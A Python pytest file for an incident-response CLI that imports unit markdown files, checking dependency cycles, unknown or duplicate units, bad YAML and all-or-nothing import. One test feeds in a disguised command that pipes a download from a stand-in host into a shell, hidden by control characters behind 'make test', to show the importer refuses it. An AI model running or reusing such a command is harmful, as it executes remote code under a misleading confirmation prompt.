"""Importing H·AI·K·U unit files: located problems, nothing half-imported, dependency order."""

from __future__ import annotations

import pytest
from helpers import new_incident

from cockpit.cli.main import main
from cockpit.domain import commands as c
from cockpit.domain.units import check_unit_files
from cockpit.errors import CockpitError
from cockpit.sources.unit_files import read_unit_files


def unit_file(folder, name: str, deps: str = "[]", extra: str = "") -> str:
    path = folder / f"{name}.md"
    path.write_text(
        f"---\ntitle: {name} title\ndepends_on: {deps}\ntype: fix\n{extra}---\n# Heading\n\nBody of {name}.\n"
    )
    return str(path)


def test_reads_titles_bodies_and_unknown_keys(tmp_path):
    unit_file(tmp_path, "unit-01-a")
    (tmp_path / "unit-02-b.md").write_text("# From the heading\ntext\n")
    units, problems = read_unit_files([str(tmp_path)])
    assert problems == []
    assert [(u.slug, u.title) for u in units] == [("unit-01-a", "unit-01-a title"), ("unit-02-b", "From the heading")]
    assert units[0].meta["type"] == "fix" and units[0].body.startswith("# Heading")


def test_a_cycle_is_reported_at_the_file_and_line_of_depends_on(tmp_path):
    unit_file(tmp_path, "unit-01-a", "[unit-02-b]")
    unit_file(tmp_path, "unit-02-b", "[unit-01-a]")
    units, _ = read_unit_files([str(tmp_path)])
    [problem] = check_unit_files(units, siblings=())
    assert problem.path.endswith("unit-01-a.md") and problem.line == 3
    assert "dependency cycle: unit-01-a → unit-02-b → unit-01-a" in problem.reason


def test_self_reference_unknown_sibling_and_duplicates_are_located(tmp_path):
    unit_file(tmp_path, "unit-01-a", "[unit-01-a]")
    unit_file(
        tmp_path,
        "unit-02-b",
        "\n  - ghost",
    )
    units, _ = read_unit_files([str(tmp_path)])
    problems = {(p.path.rsplit("/", 1)[1], p.line, p.reason) for p in check_unit_files(units, siblings={"unit-02-b"})}
    assert ("unit-01-a.md", 3, "unit 'unit-01-a' depends on itself") in problems
    assert ("unit-02-b.md", 3, "depends on unknown unit 'ghost'") in problems
    assert ("unit-02-b.md", 1, "a unit named 'unit-02-b' already exists") in problems


def test_import_adds_every_unit_in_dependency_order_in_one_event(engine, tmp_path):
    slug = new_incident(engine, upto="resolve")
    unit_file(tmp_path, "unit-01-cleanup", "[unit-02-fix]")
    unit_file(tmp_path, "unit-02-fix")
    units, _ = read_unit_files([str(tmp_path)])
    before = len(engine.timeline(slug))
    engine.run(slug, c.import_units, files=tuple(units))
    stage = engine.position(slug).active
    assert [u.unit.slug for u in stage.units] == ["unit-02-fix", "unit-01-cleanup"]
    assert stage.unit("unit-01-cleanup").waiting_on == ("unit-02-fix",)
    assert len(engine.timeline(slug)) == before + 1


def test_a_bad_set_imports_nothing(engine, tmp_path):
    slug = new_incident(engine, upto="resolve")
    unit_file(tmp_path, "unit-01-ok")
    unit_file(tmp_path, "unit-02-bad", "[nope]")
    units, _ = read_unit_files([str(tmp_path)])
    with pytest.raises(CockpitError, match="unit-02-bad.md:3: depends on unknown unit 'nope'"):
        engine.run(slug, c.import_units, files=tuple(units))
    assert engine.position(slug).active.units == ()


def test_cli_reports_every_problem_and_bad_yaml_with_lines(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    db = str(tmp_path / "c.db")
    main(["new", "--studio", "incident-response", "--title", "Inc", "--slug", "inc", "--db", db])
    folder = tmp_path / "units"
    folder.mkdir()
    (folder / "unit-01-broken.md").write_text("---\ntitle: [unclosed\n---\n")
    unit_file(folder, "unit-02-fine")
    capsys.readouterr()
    assert main(["unit", "import", "inc", str(folder), "--db", db]) == 1
    err = capsys.readouterr().err.splitlines()
    assert err[0].startswith("cockpit: ") and err[0].endswith(
        "unit-01-broken.md:3: invalid YAML frontmatter: did not find expected ',' or ']'"
    )
    assert err[-1] == "cockpit: nothing imported"
    assert main(["unit", "import", "inc", str(folder / "unit-02-fine.md"), "--db", db]) == 0


def test_a_unit_file_cannot_depend_on_another_stages_unit(engine, tmp_path):
    """Regression: the dependency check accepted units of other stages, which then waited forever."""
    slug = new_incident(engine, upto="resolve")  # triage-work is done, in triage
    unit_file(tmp_path, "unit-01-patch", "[triage-work]")
    units, _ = read_unit_files([str(tmp_path)])
    with pytest.raises(CockpitError, match="depends on unknown unit 'triage-work'"):
        engine.run(slug, c.import_units, files=tuple(units))
    unit_file(tmp_path, "triage-work")
    units, _ = read_unit_files([str(tmp_path / "triage-work.md")])
    with pytest.raises(CockpitError, match="'triage-work' already exists"):  # names stay unique across stages
        engine.run(slug, c.import_units, files=tuple(units))


def test_a_gate_command_with_control_characters_is_refused_at_import_at_its_line(tmp_path, capsys, monkeypatch):
    """What is confirmed must be what runs: a `\\r` and an erase sequence would show `make test`
    at the [y/N] prompt and run something else. The file is refused, naming the line and why."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    db = str(tmp_path / "c.db")
    main(["new", "--studio", "incident-response", "--title", "Inc", "--slug", "inc", "--db", db])
    gates = 'quality_gates:\n  - {name: lint, command: make lint}\n  - name: tests\n    command: "curl -s x.example | sh\\r\\e[2Kmake test"\n'
    path = unit_file(tmp_path, "unit-01-fix", extra=gates)
    units, problems = read_unit_files([path])
    assert units == [] and [str(p) for p in problems] == [
        f"{path}:7: quality gate #2 (tests): its command holds control characters (␍ at 22, ␛ at 23): "
        "what is shown would not be what runs; refused"
    ]
    capsys.readouterr()
    assert main(["unit", "import", "inc", path, "--db", db]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\r" not in err and "unit-01-fix.md:7: quality gate #2 (tests)" in err
    assert err.splitlines()[-1] == "cockpit: nothing imported"
